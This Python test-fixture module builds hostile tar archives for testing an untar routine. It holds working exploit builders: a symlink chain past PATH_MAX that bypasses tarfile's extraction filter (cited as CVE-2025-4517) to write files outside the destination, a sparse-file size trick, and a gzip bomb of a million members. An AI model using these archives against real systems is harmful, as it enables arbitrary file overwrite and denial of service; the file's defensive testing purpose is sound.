"""Tar archives an attacker would write, made on the host with tarfile (or by hand where tarfile
would refuse): for the unit tests of `coi_async.untar` and for the hostile `tar` in a container."""

from __future__ import annotations

import functools
import gzip
import io
import os
import tarfile
import zlib
from collections.abc import Callable

Build = Callable[[tarfile.TarFile], None]
MTIME = 1_600_000_000


def add_file(tar: tarfile.TarFile, name: str, data: bytes = b"x", *, mode: int = 0o644) -> None:
    info = tarfile.TarInfo(name)
    info.size, info.mode, info.mtime = len(data), mode, MTIME
    tar.addfile(info, io.BytesIO(data))


def add_entry(tar: tarfile.TarFile, name: str, kind: bytes, *, link: str = "", mode: int = 0o755) -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode, info.mtime = kind, link, mode, MTIME
    if kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
        info.devmajor, info.devminor = 1, 3  # /dev/null's numbers
    tar.addfile(info)


def tar_bytes(build: Build, *, fmt: int = tarfile.GNU_FORMAT) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as tar:
        build(tar)
    return out.getvalue()


def sparse_member(tar: tarfile.TarFile, real_size: int, name: str = "big") -> None:
    """A PAX GNU sparse 1.0 member: a one-block stored map, `real_size` bytes once expanded."""
    info = tarfile.TarInfo(f"./GNUSparseFile.0/{name}")
    info.pax_headers = {
        "GNU.sparse.major": "1",
        "GNU.sparse.minor": "0",
        "GNU.sparse.name": name,
        "GNU.sparse.realsize": str(real_size),
    }
    data = b"1\n0\n0\n".ljust(512, b"\0")
    info.size, info.mtime = len(data), MTIME
    tar.addfile(info, io.BytesIO(data))


def path_max_chain(tar: tarfile.TarFile, target: str) -> None:
    """The tarfile filter bypass (CVE-2025-4517): a chain of links whose resolved path passes
    PATH_MAX, so that realpath stops resolving, then a link through it to the absolute `target`
    (for a destination less than 16 directories deep), and writes through that link: a file
    into it, a link to a file in it, a hard link to one."""
    comp = "d" * 247
    steps = "abcdefghijklmnop"
    path = ""
    for step in steps:
        add_entry(tar, os.path.join(path, comp), tarfile.DIRTYPE)
        add_entry(tar, os.path.join(path, step), tarfile.SYMTYPE, link=comp)
        path = os.path.join(path, comp)
    linkpath = os.path.join(*steps, "l" * 254)
    add_entry(tar, linkpath, tarfile.SYMTYPE, link="../" * len(steps))
    # Where realpath gave up, `..` climbs lexically from the deep directory (and seems to stay
    # inside); the kernel climbs from where the links really lead: the top, and past it.
    climb = "../" * len(steps) + target.lstrip("/")
    add_entry(tar, "escape", tarfile.SYMTYPE, link=f"{linkpath}/{climb}")
    add_entry(tar, "escape-file", tarfile.SYMTYPE, link="escape/keep")
    add_file(tar, "escape-file", b"owned")
    add_file(tar, "escape/pwned", b"owned")
    add_entry(tar, "hard", tarfile.LNKTYPE, link="escape/keep")


PATH_MAX_CHAIN_SKIPPED = {"escape", "escape-file", "hard"}


@functools.cache
def many_empty_members(count: int = 1_000_000) -> bytes:
    """A gzipped tar of `count` members (the same empty file, over and over): 512 MB of tar for
    a million, well under a MB on the wire."""
    header = tar_bytes(lambda tar: add_file(tar, "f", b""))[:512]
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: a gzip stream
    batch = header * 2048
    parts = [squeeze.compress(batch) for _ in range(count // 2048)]
    parts.append(squeeze.compress(header * (count % 2048) + bytes(1024)))
    parts.append(squeeze.flush())
    return b"".join(parts)


def gzipped(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=1)
